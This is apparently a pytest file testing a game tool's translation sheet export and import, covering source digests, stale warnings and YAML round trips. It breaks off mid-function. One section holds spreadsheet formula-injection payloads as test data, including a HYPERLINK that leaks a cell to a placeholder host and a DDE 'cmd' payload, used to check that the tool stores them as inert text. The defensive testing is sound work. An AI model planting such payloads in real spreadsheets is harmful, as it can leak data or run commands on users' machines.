"""A translator's round trip (issue #78 item 1): `pnp translate export` writes a sheet per language, `pnp translate
import` writes the filled sheet back beside each source value with the digest of the text it was made from, and
`validate` says when a source changed after its translation was made. A fresh `pnp new` game is translated here."""
from __future__ import annotations

import csv
import hashlib
import shutil
from pathlib import Path

import properties  # noqa: F401  (the suite's Hypothesis profile: the same examples every run)
import pytest
from conftest import run_pnp
from hypothesis import example, given, settings
from hypothesis import strategies as st
from test_languages import pdf_text

FILLED = {  # three cells a translator fills: (card, field) → German
    ("ruby-1", "name"): "Rubinsplitter",
    ("ruby-3", "name"): "Rubinherz",
    ("emerald-1", "text"): "Nimm einen Edelstein.",
}
SHEET = "data/gems/decks/crystals.csv"


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def write_csv(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)


def letters(text: str) -> str:
    """The digest docs/editions.md gives: the first eight bytes of the text's SHA-256, each a letter a–z (byte mod 26)."""
    return "".join(chr(ord("a") + b % 26) for b in hashlib.sha256(text.encode()).digest()[:8])


def german_gems(root: Path) -> Path:
    """`pnp new gems` in `root`, with German among the game's languages and nothing translated yet: the game every
    translation test imports into (its copies made by `copy_game`)."""
    (root / "data").mkdir(parents=True)
    assert run_pnp(root, "new", "gems").exit_code == 0
    game = root / "data" / "gems" / "game.yaml"
    game.write_text(game.read_text(encoding="utf-8").replace("\npitch:", "\nlanguages: [en, de]\npitch:", 1), encoding="utf-8")
    return root


def copy_game(blank: Path, into: Path) -> Path:
    """A copy of a project's data and templates in `into`, to import into as a test likes."""
    shutil.copytree(blank / "data", into / "data")
    shutil.copytree(blank / "templates", into / "templates")
    return into


def workbook_deck(root: Path) -> Path:
    """The gems deck's cards moved from crystals.csv into crystals.xlsx, as a designer keeps them in a workbook (which
    pnp reads and does not write): the workbook's path."""
    from openpyxl import Workbook

    decks = root / "data" / "gems" / "decks"
    book = Workbook()
    for row in read_csv(decks / "crystals.csv"):
        book.active.append(row)
    book.save(decks / "crystals.xlsx")
    (decks / "crystals.csv").unlink()
    deck = decks / "crystals.yaml"
    deck.write_text(deck.read_text(encoding="utf-8").replace("cards_from: crystals.csv", "cards_from: crystals.xlsx"), encoding="utf-8")
    return decks / "crystals.xlsx"


@pytest.fixture(scope="module")
def translated(tmp_path_factory) -> Path:
    """A fresh `pnp new` game with a German edition, exported, three card texts and the deck's name filled, imported."""
    root = german_gems(tmp_path_factory.mktemp("translate") / "games")
    result = run_pnp(root, "translate", "export", "gems", "--lang", "de", "--dpi", "30")
    assert result.exit_code == 0, result.output
    rows = read_csv(root / "output" / "gems" / "translate" / "gems-de.csv")
    assert rows[0] == ["id", "where", "en", "de", "status", "fits", "face"]
    for row in rows[1:]:
        for (card, name), german in FILLED.items():
            if row[0] == f"{SHEET}#cards[{card}].{name}":
                row[3] = german
        if row[0] == "data/gems/decks/crystals.yaml#name":
            row[3] = "Kristalle"
    write_csv(root / "filled.csv", rows)
    result = run_pnp(root, "translate", "import", str(root / "filled.csv"))
    assert result.exit_code == 0, result.output
    assert f"{SHEET}: 3 translations written" in result.output and "data/gems/decks/crystals.yaml: 1 translation written" in result.output
    return root


def test_the_sheet_names_each_text_where_it_prints_and_links_its_face(translated):
    rows = {row[0]: row for row in read_csv(translated / "output" / "gems" / "translate" / "gems-de.csv")[1:]}
    ruby = rows[f"{SHEET}#cards[ruby-1].name"]
    assert ruby[1:6] == ["deck crystals, card ruby-1: name", "Ruby shard", "", "missing", ""]
    assert (translated / "output" / "gems" / "translate" / ruby[6]).is_file()  # the card's face, linked from the sheet
    assert rows["data/gems/game.yaml#pitch"][2] == "Collect sets of crystals before the caves collapse."
    # text printed elsewhere links the PDF `pnp build --lang de` writes it in, beside the sheet's folder
    assert rows["data/gems/reference.yaml#sections[0].title"][6] == "../gems-reference-de.pdf"
    assert rows["data/gems/rulebook.md#playing"][6] == "../gems-rulebook-de.pdf"


def test_an_export_without_dpi_draws_each_face_at_72_dpi(translated, tmp_path):
    """`--dpi` is 72 unless asked (its help and docs/editions.md): a poker card, 2.5 x 3.5 in, is a 180 x 252 px face."""
    from PIL import Image

    root = copy_game(translated, tmp_path)
    result = run_pnp(root, "translate", "export", "gems", "--lang", "de")
    assert result.exit_code == 0, result.output
    with Image.open(root / "output/gems/translate/faces-de/crystals/ruby-1-front.png") as face:
        assert face.size == (180, 252)


def test_the_german_faces_print_the_imported_texts(translated):
    result = run_pnp(translated, "build", "gems", "--lang", "de", "--only", "cards")
    assert result.exit_code == 0, result.output
    german = pdf_text(translated / "output" / "gems" / "gems-cards-de.pdf")
    assert all(text in german for text in FILLED.values()), german
    assert "Ruby shard" not in german and "Ruby heart" not in german
    assert "Emerald shard" in german  # a cell left empty keeps the source


def test_each_translation_records_the_source_it_was_made_from_beside_it(translated):
    rows = read_csv(translated / SHEET)
    head = rows[0]
    ruby = next(row for row in rows if row[0] == "ruby-1")
    assert head.index("name@de") == head.index("name") + 1 and head.index("name@de~src") == head.index("name") + 2
    assert ruby[head.index("name@de")] == "Rubinsplitter" and ruby[head.index("name@de~src")] == letters("Ruby shard")
    deck = (translated / "data" / "gems" / "decks" / "crystals.yaml").read_text(encoding="utf-8").splitlines()
    at = next(i for i, line in enumerate(deck) if line.startswith("name:"))
    assert deck[at + 1:at + 3] == ["name@de: Kristalle", f"name@de~src: {letters('Crystals')}"]
    assert run_pnp(translated, "validate", "gems", "--lang", "de", "--quick").output.count("older text") == 0


def test_a_changed_source_makes_validate_warn_at_the_german_cell(translated, tmp_path):
    root = shutil.copytree(translated / "data", tmp_path / "data") and tmp_path
    shutil.copytree(translated / "templates", tmp_path / "templates")
    sheet = root / SHEET
    sheet.write_text(sheet.read_text(encoding="utf-8").replace("Ruby shard", "Ruby splinter"), encoding="utf-8")
    result = run_pnp(root, "validate", "gems", "--lang", "de", "--quick")
    column = read_csv(sheet)[0].index("name@de") + 1
    warned = [line for line in result.output.splitlines() if "made from an older text" in line]
    assert len(warned) == 1 and warned[0].startswith(f"{SHEET}:2:{column}: warning: translation of cards[ruby-1].name"), result.output
    assert "Ruby splinter" in warned[0]
    assert "older text" not in run_pnp(root, "validate", "gems", "--lang", "en", "--quick").output


def test_a_translation_too_long_is_named_with_its_cell_in_the_sheet_and_the_finding(translated, tmp_path):
    shutil.copytree(translated / "data", tmp_path / "data")
    shutil.copytree(translated / "templates", tmp_path / "templates")
    sheet = tmp_path / SHEET
    long = "Außerordentlich funkelnder Rubinsplitter aus der allertiefsten Kristallhöhle des Nordens, " * 3
    text = sheet.read_text(encoding="utf-8").replace("Rubinsplitter", f'"{long.strip()}"')
    sheet.write_text(text.replace("Rubinherz", "Rubinherz der feuerspeienden Vulkane im Norden"), encoding="utf-8")
    result = run_pnp(tmp_path, "translate", "export", "gems", "--lang", "de", "--dpi", "30")
    cell = f"{SHEET}:2:{read_csv(sheet)[0].index('name@de') + 1}"
    overflow = [line for line in result.output.splitlines() if "does not fit" in line]
    assert len(overflow) == 1 and f"at {cell})" in overflow[0], result.output
    rows = {row[0]: row for row in read_csv(tmp_path / "output" / "gems" / "translate" / "gems-de.csv")[1:]}
    assert rows[f"{SHEET}#cards[ruby-1].name"][4:6] == ["", "does not fit"]
    assert rows[f"{SHEET}#cards[ruby-3].name"][4:6] == ["", "shrinks to fit"]  # its warning is at its cell
    assert rows[f"{SHEET}#cards[emerald-1].text"][4:6] == ["", "yes"]


def test_a_bad_cell_is_an_error_at_its_place_in_the_sheet_and_nothing_is_written(translated, tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "de"
    sheet.append(["id", "where", "en", "de", "status", "fits", "face"])
    sheet.append([f"{SHEET}#cards[sapphire-1].name", "", "Sapphire shard", "Saphirsplitter", "missing", "", ""])
    sheet.append([f"{SHEET}#cards[sapphire-9].name", "", "Sapphire shard", "Saphir", "missing", "", ""])
    sheet.append(["", "", "", "Ohne Ziel", "", "", ""])
    book.save(tmp_path / "de.xlsx")
    before = {p: p.read_bytes() for p in (translated / "data").rglob("*") if p.is_file()}
    result = run_pnp(translated, "translate", "import", str(tmp_path / "de.xlsx"))
    assert result.exit_code == 1
    errors = [line for line in result.output.splitlines() if ": error: " in line]
    assert len(errors) == 2, result.output
    assert errors[0].startswith(f"{tmp_path / 'de.xlsx'}[de]!A3: error: ") and "cards[sapphire-2].name" in errors[0]  # the nearest id
    assert errors[1].startswith(f"{tmp_path / 'de.xlsx'}[de]!A4: error: ")
    assert before == {p: p.read_bytes() for p in (translated / "data").rglob("*") if p.is_file()}


def test_the_xlsx_holds_the_csv_s_table_and_no_clock(translated):
    """The same data gives the same bytes: no entry of the workbook's zip carries the time it was written."""
    import zipfile

    from python_calamine import CalamineWorkbook

    folder = translated / "output" / "gems" / "translate"
    book = CalamineWorkbook.from_path(str(folder / "gems-de.xlsx"))
    assert book.sheet_names == ["de"]
    table = [["" if v is None else str(v) for v in row] for row in book.get_sheet_by_name("de").to_python()]
    guarded = [[v[1:] if v[:1] == "'" and v[1:2] in "=+-@" else v for v in row] for row in read_csv(folder / "gems-de.csv")]
    assert table == guarded  # the CSV's formula guard (a leading ') is the workbook's text type
    assert any(v.startswith("'-") for row in read_csv(folder / "gems-de.csv") for v in row)  # the rulebook's front matter, ---
    with zipfile.ZipFile(folder / "gems-de.xlsx") as zf:
        assert {info.date_time for info in zf.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = zf.read("docProps/core.xml").decode()
    assert "2000-01-01" in core and "dcterms:modified" not in core


YAML_GAME = """\
title: Lists
languages: [en, de]
pitch: >
  A long pitch
  over two lines.
players: {min: 2, max: 2}
strings:
  kind: Creature
  kind@de: Wesen
  kind@de~src: aaaaaaaa
components:
  - name: Beasts
    in: decks.beasts
    count: 1
  - {name: Inline, in: decks.beasts, count: 1}
  - {name: Again, name@de: Wieder, name@de~src: aaaaaaaa, in: decks.beasts, count: 1}  # kept
"""


def test_import_writes_beside_each_kind_of_yaml_value_and_keeps_every_other_line(tmp_path):
    """A folded scalar, a key on a list item's dash line, a translation replaced with its old digest, a list, `{…}`
    mappings, Windows line ends: each translation reads back as given, and each line the import did not write is as it
    was."""
    from pnp.data.project import Project
    from pnp.data.source import load_yaml
    from pnp.targets.translate_import import import_translations

    game = tmp_path / "data" / "lists"
    game.mkdir(parents=True)
    (game / "game.yaml").write_bytes(YAML_GAME.replace("\n", "\r\n").encode())
    (game / "reference.yaml").write_text("title: Help\nsections:\n  - title: Turn\n    bullets:\n      - Draw a card.\n      - Play one.\n", encoding="utf-8")
    rows = [["id", "where", "en", "de", "status", "fits", "face"],
            ["data/lists/game.yaml#pitch", "", "A long pitch over two lines.", "Ein langer Werbetext: zwei Zeilen.", "missing", "", ""],
            ["data/lists/game.yaml#strings.kind", "", "Creature", "Kreatur", "stale", "", ""],
            ["data/lists/game.yaml#components[0].name", "", "Beasts", "Biester", "missing", "", ""],
            ["data/lists/game.yaml#components[1].name", "", "Inline", "Eingebettet, mit {Klammer}", "missing", "", ""],
            ["data/lists/game.yaml#components[2].name", "", "Again", "Nochmals", "stale", "", ""],
            ["data/lists/reference.yaml#sections[0].bullets", "", "Draw a card.\nPlay one.", "Ziehe eine Karte.\n- Spiele eine.", "missing", "", ""]]
    write_csv(tmp_path / "de.csv", rows)
    result = import_translations(Project(tmp_path), tmp_path / "de.csv")
    assert [f.format() for f in result.findings] == [] and [count for _, count in result.files] == [5, 1]
    text = (game / "game.yaml").read_bytes().decode()
    assert "\n" not in text.replace("\r\n", "")  # Windows line ends kept, none added bare
    assert [line for line in text.split("\r\n") if "@de" not in line and "{name" not in line] == \
        [line for line in YAML_GAME.split("\n") if "@de" not in line and "{name" not in line]
    assert '  - {name: Inline, name@de: "Eingebettet, mit {Klammer}", name@de~src: ' in text  # in a {…} mapping, right after its source
    assert "  - {name: Again, name@de: Nochmals, name@de~src: " in text and "# kept" in text
    data = load_yaml(game / "game.yaml", "data/lists/game.yaml")
    assert data["pitch@de"] == "Ein langer Werbetext: zwei Zeilen." and data["pitch@de~src"] == letters("A long pitch over two lines.")
    assert data["strings"]["kind@de"] == "Kreatur" and data["strings"]["kind@de~src"] == letters("Creature")
    assert data["components"][0]["name@de"] == "Biester" and data["components"][1]["name@de"] == "Eingebettet, mit {Klammer}"
    assert data["components"][2]["name@de"] == "Nochmals" and data["components"][2]["name@de~src"] == letters("Again")
    assert list(data["components"][2]) == ["name", "name@de", "name@de~src", "in", "count"]
    reference = load_yaml(game / "reference.yaml", "data/lists/reference.yaml")
    assert reference["sections"][0]["bullets@de"] == ["Ziehe eine Karte.", "- Spiele eine."]
    assert reference["sections"][0]["bullets@de~src"] == letters("Draw a card.\nPlay one.")


@settings(max_examples=25)
@given(st.text(min_size=1).map(str.strip).filter(bool))
@example("\x1b[31mRot")
@example("- Spiele eine.")
@example("Achtung: heiß")
@example("12e45678")
@example("null")
@example("Zeile\nzwei")
@example('"Zitat" \\ Pfad')
@example("Absatz\u2028Ende")
@example("# Kein Kommentar")
@example("Ende #3")
def test_any_translation_written_into_yaml_reads_back_as_the_same_text(text):
    """Whatever a translator types (quotes, colons, a leading dash, a line break, control characters, a word YAML reads
    as a number or null), the key the import writes reads back as that text."""
    from pnp.data.source import load_yaml
    from pnp.targets.yaml_writes import scalar

    assert load_yaml(Path("game.yaml"), "game.yaml", f"name@de: {scalar(text)}\n".encode())["name@de"] == text


def test_the_rulebook_comes_back_as_its_own_file_section_by_section(translated, tmp_path):
    """The sheet holds a row per section of rulebook.md; with every section filled the import writes rulebook.de.md
    whole, then changes one section of it alone; with some left empty it writes nothing and says so at a filled one."""
    shutil.copytree(translated / "data", tmp_path / "data")
    rows = read_csv(translated / "output" / "gems" / "translate" / "gems-de.csv")
    book = [row for row in rows if row[0].startswith("data/gems/rulebook.md#")]
    assert [row[0].partition("#")[2] for row in book] == ["opening", "overview", "components", "playing"]
    assert book[1][1:3] == ["rulebook, Overview", (translated / "data/gems/rulebook.md").read_text(encoding="utf-8").split("\n\n# Components")[0].split("---\n")[-1]]
    german = {"overview": "# Überblick\n\nSammelt Kristalle.", "components": "# Spielmaterial\n\n{{ components() }}", "playing": "# Spielablauf\n\nSpielt."}
    for row in book[1:]:
        row[3] = german[row[0].partition("#")[2]]
    write_csv(tmp_path / "part.csv", [rows[0], *book])
    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "part.csv"))
    lines = (tmp_path / "part.csv").read_text(encoding="utf-8").split("\n")
    line = next(i + 1 for i, x in enumerate(lines) if x.startswith("data/gems/rulebook.md#overview"))  # the first filled one; cells span lines
    errors = [x for x in result.output.splitlines() if ": error: " in x]
    assert result.exit_code == 1 and len(errors) == 1 and errors[0].startswith(f"part.csv:{line}:4: error: "), result.output
    assert "1 of 4 are empty, the first 'opening'" in errors[0]
    assert not (tmp_path / "data/gems/rulebook.de.md").exists()
    book[0][3] = "---\nsubtitle: Spielregeln\n---"
    write_csv(tmp_path / "whole.csv", [rows[0], *book])
    assert run_pnp(tmp_path, "translate", "import", str(tmp_path / "whole.csv")).exit_code == 0
    written = (tmp_path / "data/gems/rulebook.de.md").read_text(encoding="utf-8")
    src = {row[0].partition("#")[2]: "{# src: " + letters(row[2].removeprefix("'")) + " #}" for row in book}  # each notes its source's digest ('---: the sheet's guard)
    assert written == (f"---\nsubtitle: Spielregeln\n---\n{src['opening']}\n\n# Überblick\n{src['overview']}\n\nSammelt Kristalle.\n\n"
                       f"# Spielmaterial\n{src['components']}\n\n{{{{ components() }}}}\n\n# Spielablauf\n{src['playing']}\n\nSpielt.\n")
    book[3][3] = "# Spielablauf\n\nSpielt reihum bis Zug XX\nXXI zählt doppelt."  # any text, line breaks and all, comes back as it was
    write_csv(tmp_path / "one.csv", [rows[0], book[3]])
    assert run_pnp(tmp_path, "translate", "import", str(tmp_path / "one.csv")).exit_code == 0
    assert (tmp_path / "data/gems/rulebook.de.md").read_text(encoding="utf-8") == written.replace("Spielt.", "Spielt reihum bis Zug XX\nXXI zählt doppelt.")


def test_a_changed_rulebook_section_makes_validate_warn_at_its_german_section(translated, tmp_path):
    """rulebook.de.md notes the digest of each section's source as a Jinja comment (which no rulebook prints); when
    rulebook.md's section changes, validate warns at the German section's heading and the export marks its row stale."""
    shutil.copytree(translated / "data", tmp_path / "data")
    shutil.copytree(translated / "templates", tmp_path / "templates")
    rows = read_csv(translated / "output" / "gems" / "translate" / "gems-de.csv")
    book = [row for row in rows if row[0].startswith("data/gems/rulebook.md#")]
    for row, german in zip(book, ["---\nsubtitle: Spielregeln\n---", "# Überblick\n\nSammelt Kristalle.", "# Spielmaterial\n\nAlles.",
                                  "# Spielablauf\n\nSpielt."], strict=True):
        row[3] = german
    write_csv(tmp_path / "whole.csv", [rows[0], *book])
    assert run_pnp(tmp_path, "translate", "import", str(tmp_path / "whole.csv")).exit_code == 0
    assert "older text" not in run_pnp(tmp_path, "validate", "gems", "--lang", "de", "--quick").output
    assert run_pnp(tmp_path, "build", "gems", "--lang", "de", "--only", "rulebook").exit_code == 0
    printed = pdf_text(tmp_path / "output/gems/gems-rulebook-de.pdf")
    assert "Spielablauf" in printed and "src" not in printed  # the notes are comments: no rulebook prints them
    rules = tmp_path / "data/gems/rulebook.md"
    english = rules.read_text(encoding="utf-8")
    playing = english.index("\n# Playing")
    rules.write_text(english[:playing] + english[playing:].replace(".", ", then pass.", 1), encoding="utf-8")
    result = run_pnp(tmp_path, "validate", "gems", "--lang", "de", "--quick")
    warned = [line for line in result.output.splitlines() if "made from an older text" in line]
    german = (tmp_path / "data/gems/rulebook.de.md").read_text(encoding="utf-8").split("\n")
    assert len(warned) == 1 and warned[0].startswith(f"data/gems/rulebook.de.md:{german.index('# Spielablauf') + 1}:1: warning: "
                                                      "translation of the rulebook's section 'playing'"), result.output
    assert "older text" not in run_pnp(tmp_path, "validate", "gems", "--lang", "en", "--quick").output
    assert run_pnp(tmp_path, "translate", "export", "gems", "--lang", "de", "--dpi", "30").exit_code == 0
    status = {row[0].partition("#")[2]: row[4] for row in read_csv(tmp_path / "output/gems/translate/gems-de.csv") if "rulebook.md#" in row[0]}
    assert status == {"opening": "", "overview": "", "components": "", "playing": "stale"}


def test_a_sheet_in_a_language_the_game_lacks_is_one_error_at_its_header(translated, tmp_path):
    rows = [["id", "where", "en", "fr", "status", "fits", "face"],
            [f"{SHEET}#cards[ruby-1].name", "", "Ruby shard", "Éclat de rubis", "missing", "", ""],
            [f"{SHEET}#cards[ruby-3].name", "", "Ruby heart", "Cœur de rubis", "missing", "", ""]]
    write_csv(tmp_path / "fr.csv", rows)
    result = run_pnp(translated, "translate", "import", str(tmp_path / "fr.csv"))
    errors = [line for line in result.output.splitlines() if ": error: " in line]
    assert result.exit_code == 1 and len(errors) == 1 and errors[0].startswith(f"{tmp_path / 'fr.csv'}:1:4: error: this sheet translates en into fr"), result.output


def test_a_sheet_row_the_import_does_not_change_keeps_its_very_text(translated, tmp_path):
    shutil.copytree(translated / "data", tmp_path / "data")
    sheet = tmp_path / SHEET
    lines = sheet.read_text(encoding="utf-8").split("\n")
    at = next(i for i, line in enumerate(lines) if line.startswith("sapphire-1,"))
    lines[at] = ",".join(f'"{v}"' for v in lines[at].split(","))  # quoted as some programs save every value
    sheet.write_text("\n".join(lines), encoding="utf-8")
    before = sheet.read_text(encoding="utf-8").split("\n")
    write_csv(tmp_path / "one.csv", [["id", "where", "en", "de", "status", "fits", "face"],
                                     [f"{SHEET}#cards[emerald-3].name", "", "Emerald eye", "Smaragdauge", "missing", "", ""]])
    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "one.csv"))
    assert result.exit_code == 0, result.output
    after = sheet.read_text(encoding="utf-8").split("\n")
    assert len(after) == len(before)
    assert [i for i, (a, b) in enumerate(zip(before, after, strict=True)) if a != b] == [next(i for i, x in enumerate(before) if x.startswith("emerald-3,"))]
    assert after[at].startswith('"sapphire-1","Sapphire shard"')


HOSTILE = {  # what a translator may type that a spreadsheet program would run (issue #100 item 1): (card, field) → text
    ("ruby-1", "name"): "+1+1",
    ("ruby-3", "name"): "@SUM(A1)",
    ("emerald-1", "text"): '=HYPERLINK("http://x.example/?"&A1,"click")',
    ("emerald-3", "name"): "'=1+1",  # the export's own guarded cell: the text =1+1
    ("sapphire-1", "text"): "=cmd|' /C calc'!A0",
}
FORMULA_STARTS = "=+-@\t\r"  # what Excel, LibreOffice and Google Sheets read as the start of a formula (OWASP, CSV injection)


def hostile_sheet(root: Path, path: Path) -> None:
    """A filled sheet holding HOSTILE, each row's English as the deck's CSV has it."""
    deck = read_csv(root / SHEET)
    english = {(row[0], name): row[deck[0].index(name)] for row in deck[1:] for name in ("name", "text")}
    rows = [["id", "where", "en", "de", "status", "fits", "face"]]
    rows += [[f"{SHEET}#cards[{card}].{name}", "", english[card, name], german, "missing", "", ""] for (card, name), german in HOSTILE.items()]
    write_csv(path, rows)


def test_a_translator_s_formula_is_text_in_the_designer_s_csv_and_on_the_card(translated, tmp_path):
    """Each hostile cell lands in the deck's CSV behind the `'` guard (no field starts like a formula, as a spreadsheet
    program reads the file), and the German card prints it as the translator wrote it (the export's `'=1+1` as =1+1)."""
    shutil.copytree(translated / "data", tmp_path / "data")
    shutil.copytree(translated / "templates", tmp_path / "templates")
    hostile_sheet(tmp_path, tmp_path / "de.csv")
    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "de.csv"))
    assert result.exit_code == 0 and "warning" not in result.output and f"{SHEET}: 5 translations written" in result.output, result.output
    rows = read_csv(tmp_path / SHEET)
    head = rows[0]
    assert not [v for row in rows for v in row if v[:1] and v[0] in FORMULA_STARTS]  # no live formula anywhere in the file
    by_id = {row[0]: row for row in rows[1:]}
    for (card, name), german in HOSTILE.items():
        shown = german.removeprefix("'")
        assert by_id[card][head.index(f"{name}@de")] == "'" + shown  # the guard before it, which a spreadsheet program hides
        assert by_id[card][head.index(f"{name}@de~src")] == letters(by_id[card][head.index(name)])
    result = run_pnp(tmp_path, "build", "gems", "--lang", "de", "--only", "cards")
    assert result.exit_code == 0, result.output
    printed = pdf_text(tmp_path / "output" / "gems" / "gems-cards-de.pdf").replace(" ", "")
    printed = printed.translate(str.maketrans("“”’", "\"\"'"))  # the card sets its quotes typographically
    for german in HOSTILE.values():
        assert german.removeprefix("'").replace(" ", "") in printed
    assert "'=1+1" not in printed and "'+1+1" not in printed  # the guard is never printed


def test_a_translator_s_formula_is_text_in_the_exported_sheets_and_comes_back_unchanged(translated, tmp_path):
    """Exported again, the hostile translations are guarded in the CSV and strings in the XLSX (no `<f>` in its XML,
    as a spreadsheet program reads it); each sheet imported back as exported changes nothing."""
    import zipfile

    shutil.copytree(translated / "data", tmp_path / "data")
    shutil.copytree(translated / "templates", tmp_path / "templates")
    hostile_sheet(tmp_path, tmp_path / "de.csv")
    assert run_pnp(tmp_path, "translate", "import", str(tmp_path / "de.csv")).exit_code == 0
    assert run_pnp(tmp_path, "translate", "export", "gems", "--lang", "de", "--dpi", "30").exit_code == 0
    folder = tmp_path / "output" / "gems" / "translate"
    rows = read_csv(folder / "gems-de.csv")
    assert not [v for row in rows for v in row if v[:1] and v[0] in FORMULA_STARTS]
    exported = {row[0]: row[3] for row in rows}
    for (card, name), german in HOSTILE.items():
        assert exported[f"{SHEET}#cards[{card}].{name}"] == "'" + german.removeprefix("'")
    with zipfile.ZipFile(folder / "gems-de.xlsx") as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    for sheet in ("gems-de.csv", "gems-de.xlsx"):
        result = run_pnp(tmp_path, "translate", "import", str(folder / sheet))
        assert result.exit_code == 0 and "nothing to write" in result.output, result.output


def test_a_translator_s_formula_never_enters_a_workbook_deck(translated, tmp_path):
    """A deck read from an XLSX: pnp does not write workbooks, so its five translations are one error that says to type
    a formula's text after a `'`, and the workbook holds no formula (its XML read back: every cell a string, no `<f>`)."""
    import zipfile

    shutil.copytree(translated / "data", tmp_path / "data")
    book = workbook_deck(tmp_path)
    before = book.read_bytes()
    hostile_sheet(translated, tmp_path / "de.csv")
    text = (tmp_path / "de.csv").read_text(encoding="utf-8").replace("data/gems/decks/crystals.csv", "data/gems/decks/crystals.xlsx")
    (tmp_path / "de.csv").write_text(text, encoding="utf-8")
    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "de.csv"))
    errors = [line for line in result.output.splitlines() if ": error: " in line]
    assert result.exit_code == 1 and len(errors) == 1 and "5 texts of this sheet live in the workbook" in errors[0], result.output
    assert "(a text beginning as a formula does after a `'`, so the program keeps it as text)" in errors[0], errors
    assert book.read_bytes() == before
    with zipfile.ZipFile(book) as zf:
        sheets = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)


def sheet_row(rows: list[list[str]], cell_id: str) -> tuple[int, list[str]]:
    """(1-based line in the sheet, row) of the row for `cell_id`."""
    return next((i + 1, row) for i, row in enumerate(rows) if row[0] == cell_id)


def test_a_sheet_exported_before_the_english_changed_records_the_text_the_translator_saw(translated, tmp_path):
    """The English changes between export and import (a card's name in the CSV deck, the deck's name in its YAML): the
    import warns at each row's English cell, records the digest of the sheet's English (not today's), and so validate
    calls both translations stale at their cells, and the next export marks their rows stale, never checked."""
    shutil.copytree(translated / "data", tmp_path / "data")
    shutil.copytree(translated / "templates", tmp_path / "templates")
    exported = read_csv(translated / "output" / "gems" / "translate" / "gems-de.csv")  # as the translator got it
    deck_csv, deck_yaml = tmp_path / SHEET, tmp_path / "data/gems/decks/crystals.yaml"
    deck_csv.write_text(deck_csv.read_text(encoding="utf-8").replace("Sapphire tide", "Sapphire wave"), encoding="utf-8")
    deck_yaml.write_text(deck_yaml.read_text(encoding="utf-8").replace("name: Crystals", "name: Crystal caves"), encoding="utf-8")
    _, tide = sheet_row(exported, f"{SHEET}#cards[sapphire-2].name")
    _, name = sheet_row(exported, "data/gems/decks/crystals.yaml#name")
    assert tide[2] == "Sapphire tide" and name[2] == "Crystals"
    tide[3], name[3] = "Saphirflut", "Kristallhöhlen"
    write_csv(tmp_path / "de.csv", [exported[0], tide, name])
    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "de.csv"))
    assert result.exit_code == 0, result.output
    warned = [line for line in result.output.splitlines() if "source text changed since this sheet was exported" in line]
    assert len(warned) == 2, result.output
    assert warned[0].startswith("de.csv:2:3: warning: ") and "Sapphire wave" in warned[0]
    assert warned[1].startswith("de.csv:3:3: warning: ") and "Crystal caves" in warned[1]
    rows = read_csv(deck_csv)
    _, card = sheet_row(rows, "sapphire-2")
    assert card[rows[0].index("name@de~src")] == letters("Sapphire tide") != letters("Sapphire wave")
    assert f"name@de~src: {letters('Crystals')}" in deck_yaml.read_text(encoding="utf-8")
    result = run_pnp(tmp_path, "validate", "gems", "--lang", "de", "--quick")
    stale = sorted(line.split(": warning: ")[0] for line in result.output.splitlines() if "made from an older text" in line)
    deck_lines = deck_yaml.read_text(encoding="utf-8").split("\n")
    tide_at = next(i + 1 for i, line in enumerate(deck_csv.read_text(encoding="utf-8").split("\n")) if line.startswith("sapphire-2,"))
    assert stale == sorted([f"{SHEET}:{tide_at}:{rows[0].index('name@de') + 1}",  # its line in the file (a card above spans two)
                            f"data/gems/decks/crystals.yaml:{deck_lines.index('name@de: Kristallhöhlen') + 1}:10"]), result.output
    assert run_pnp(tmp_path, "translate", "export", "gems", "--lang", "de", "--dpi", "30").exit_code == 0
    again = read_csv(tmp_path / "output" / "gems" / "translate" / "gems-de.csv")
    assert sheet_row(again, f"{SHEET}#cards[sapphire-2].name")[1][2:5] == ["Sapphire wave", "Saphirflut", "stale"]
    assert sheet_row(again, "data/gems/decks/crystals.yaml#name")[1][2:5] == ["Crystal caves", "Kristallhöhlen", "stale"]


def test_emptying_a_stale_row_s_status_confirms_its_translation(translated, tmp_path):
    """A stale row imported as exported changes nothing; with its `status` cell emptied, the import records today's
    English for it, and validate no longer calls it stale."""
    shutil.copytree(translated / "data", tmp_path / "data")
    shutil.copytree(translated / "templates", tmp_path / "templates")
    deck_csv = tmp_path / SHEET
    deck_csv.write_text(deck_csv.read_text(encoding="utf-8").replace("Ruby shard", "Ruby splinter"), encoding="utf-8")
    assert run_pnp(tmp_path, "translate", "export", "gems", "--lang", "de", "--dpi", "30").exit_code == 0
    exported = read_csv(tmp_path / "output" / "gems" / "translate" / "gems-de.csv")
    _, ruby = sheet_row(exported, f"{SHEET}#cards[ruby-1].name")
    assert ruby[2:5] == ["Ruby splinter", "Rubinsplitter", "stale"]
    write_csv(tmp_path / "as-is.csv", [exported[0], ruby])
    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "as-is.csv"))
    assert result.exit_code == 0 and "nothing to write" in result.output, result.output
    ruby[4] = ""
    write_csv(tmp_path / "checked.csv", [exported[0], ruby])
    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "checked.csv"))
    assert result.exit_code == 0 and f"{SHEET}: 1 translation written" in result.output, result.output
    rows = read_csv(deck_csv)
    _, card = sheet_row(rows, "ruby-1")
    assert card[rows[0].index("name@de")] == "Rubinsplitter" and card[rows[0].index("name@de~src")] == letters("Ruby splinter")
    assert "older text" not in run_pnp(tmp_path, "validate", "gems", "--lang", "de", "--quick").output


def test_a_translator_s_formula_is_text_in_a_tsv_deck(translated, tmp_path):
    """The same guard in a tab-separated deck: no field starts like a formula, and each reads back as typed."""
    shutil.copytree(translated / "data", tmp_path / "data")
    decks = tmp_path / "data" / "gems" / "decks"
    with (decks / "crystals.tsv").open("w", encoding="utf-8", newline="") as f:
